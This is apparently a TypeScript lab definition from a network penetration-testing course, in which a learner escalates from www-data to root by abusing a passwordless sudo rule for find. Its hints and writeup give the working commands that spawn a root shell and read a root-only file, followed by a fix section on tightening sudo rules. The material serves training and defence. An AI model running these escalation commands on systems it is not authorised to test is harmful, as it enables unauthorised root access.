import type { LabInfo } from './lab-info';

const lab: LabInfo = {
  id: 'net-linux-privesc',
  moduleId: 'network-penetration',
  lessonNumber: 10,
  title: 'Escalate from www-data to root through a sudo rule',
  difficulty: 'Beginner',
  objective:
    'You have a reverse shell as www-data on an emulated Ubuntu web server. Become root and read /root/flag.txt; the terminal then shows your flag.',
  hints: [
    'Start with the quiet checks from the lesson: id, sudo -l, and find / -perm -4000 -type f 2>/dev/null. Compare the SUID list with what a clean Ubuntu server ships.',
    'sudo -l shows one whole program that www-data may run as root without a password. Look it up on GTFOBins: can that program start other programs?',
    'find -exec runs a command as whoever runs find. Escape the semicolon so the shell hands it to find: sudo find . -exec /bin/sh \\; -quit',
  ],
  writeup: `1. Type \`sudo -l\` in the terminal. Among the defaults is one rule:
   \`(root) NOPASSWD: /usr/bin/find\`. (\`cleanup.sh\` in the web root shows why someone added it.)
2. \`find / -perm -4000 -type f 2>/dev/null\` lists only the SUID programs a clean Ubuntu 22.04
   ships, and \`sudo cat /root/flag.txt\` asks for a password you do not have. The rule is the way in.
3. Run \`sudo find . -exec /bin/sh \\; -quit\`. find matches \`.\`, runs \`/bin/sh\` as root, and the
   prompt becomes \`#\`. \`id\` now says \`uid=0(root)\`.
4. \`cat /root/flag.txt\` shows the flag. \`exit\` takes you back to www-data.

**Why it works:** sudo runs the permitted program with uid 0, and a rule without arguments
allows any arguments. \`find -exec\` starts whatever program you name, with find's own IDs,
so the rule grants every program. The backslash matters: unescaped, the shell treats \`;\` as
the end of the command and find never sees it. One-liners work too, such as
\`sudo find /root -name flag.txt -exec cat {} \\;\`.

**The fix:** write sudo rules as exact command lines, for example
\`/usr/bin/find /var/www/html/uploads -type f -mtime +30 -delete\`, or better, run the clean-up
job as root from root's own crontab and drop the rule. Review \`/etc/sudoers.d/\` like code,
check new rules against GTFOBins, and alert when a service account runs \`sudo\`.`,
};

export default lab;
